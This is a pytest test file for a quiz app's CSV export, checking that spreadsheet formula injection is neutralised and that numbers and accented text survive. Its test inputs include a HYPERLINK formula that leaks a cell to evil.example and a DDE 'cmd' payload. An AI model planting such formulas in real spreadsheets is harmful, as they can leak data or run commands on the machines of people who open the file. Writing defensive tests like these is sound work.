"""CSV exports: formulas neutralised, numbers kept as numbers, accents and awkward text intact."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.exports.spreadsheet import FORMULA_STARTS, csv_bytes, safe_cell


def read_back(data: bytes) -> list[list[str]]:
    """What a spreadsheet (or Python) reads from the file: decoded with the BOM, parsed as CSV."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------------
# safe_cell
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1, "Click for your grade")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1, "Click for your grade")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("-1+2", "'-1+2"),  # text that looks like arithmetic is still text
        ("-3.5", "'-3.5"),  # typed by a student, so text: only a real number is trusted as one
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(typed: str, cell: str) -> None:
    assert safe_cell(typed) == cell


@pytest.mark.parametrize(
    "text", ["Kamala Harris", "", " =1 is not a formula start", "1+1", "a=b", "Andrés", "'quoted'"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        (-3.5, "-3.5"),  # a negative number is a number, not a formula
        (-3, "-3"),
        (3.0, "3"),  # no needless .0
        (0.1, "0.1"),
        (2.5, "2.5"),
        (-0.0, "0"),
        (178622, "178622"),
        (10**20, "100000000000000000000"),
        (1e20, "1e+20"),
        (Decimal("3.50"), "3.5"),
        (Decimal("-100"), "-100"),
        (Decimal("-0.00"), "0"),
        (Fraction(1, 4), "0.25"),
    ],
)
def test_numbers_stay_numbers(number: object, cell: str) -> None:
    assert safe_cell(number) == cell


def test_none_bool_dates_and_other_objects() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(True) == "TRUE" and safe_cell(False) == "FALSE"
    assert safe_cell(datetime.date(2021, 6, 8)) == "2021-06-08"
    assert safe_cell(datetime.datetime(2021, 6, 8, 9, 30)) == "2021-06-08T09:30:00"
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(float("-inf")) == "'-inf"  # not a number a spreadsheet can hold: text, neutralised

    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Sneaky()) == "'=1+1"


@given(st.text())
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


# --------------------------------------------------------------------------------------------------
# csv_bytes
# --------------------------------------------------------------------------------------------------


def test_csv_has_a_bom_and_crlf_line_endings() -> None:
    data = csv_bytes(["Student", "Score"], [["Zoë", 3], ["Ana", 2.5]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data == "\ufeffStudent,Score\r\nZoë,3\r\nAna,2.5\r\n".encode()


def test_accents_survive_a_round_trip() -> None:
    names = ["Andrés Manuel López Obrador", "Zoë Ñúñez", "François", "Đặng", "Ørsted", "北京"]
    data = csv_bytes(["Name"], [[name] for name in names])
    assert read_back(data) == [["Name"], *[[name] for name in names]]


def test_commas_quotes_and_newlines_are_quoted() -> None:
    awkward = ['He said, "Do not come."', "line one\nline two", "cr\rhere", "plain"]
    data = csv_bytes(["a", "b", "c", "d"], [awkward])
    text = data.decode("utf-8-sig")
    assert '"He said, ""Do not come."""' in text
    assert '"line one\nline two"' in text
    assert '"cr\rhere"' in text
    assert ",plain\r\n" in text  # only what needs quoting is quoted
    assert read_back(data) == [["a", "b", "c", "d"], awkward]


def test_every_cell_goes_through_safe_cell() -> None:
    hostile = ['=HYPERLINK("http://evil.example","x")', "+1", "-cmd", "@SUM(A1)", "\t=1"]
    data = csv_bytes(["=header", "ok"], [[*hostile, -3.5, None, True]])
    header, row = read_back(data)
    assert header == ["'=header", "ok"]
    assert row == [
        '\'=HYPERLINK("http://evil.example","x")',
        "'+1",
        "'-cmd",
        "'@SUM(A1)",
        "'\t=1",
        "-3.5",
        "",
        "TRUE",
    ]


def test_an_empty_export_is_just_the_header() -> None:
    assert read_back(csv_bytes(["Student", "Score"], [])) == [["Student", "Score"]]
    assert read_back(csv_bytes(["Student", "Score"], iter([]))) == [["Student", "Score"]]


def test_a_lone_surrogate_does_not_fail_the_export() -> None:
    assert read_back(csv_bytes(["a"], [["bad \ud800 text"]]))[1] == ["bad ? text"]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=4), max_size=5))
def test_any_rows_read_back_cell_for_cell(rows: list[list[object]]) -> None:
    # Round trip: what csv.reader gets back is exactly safe_cell of what went in. Surrogates are
    # left out: they cannot be encoded, and are covered above.
    rows = [
        [c for c in row if not (isinstance(c, str) and any("\ud800" <= ch <= "\udfff" for ch in c))] for row in rows
    ]
    rows = [row for row in rows if row]
    data = csv_bytes(["h"], rows)
    # A row of one empty cell is written as "" so that it is not a blank line; csv.reader reads it back.
    assert read_back(data)[1:] == [[safe_cell(c) for c in row] for row in rows]
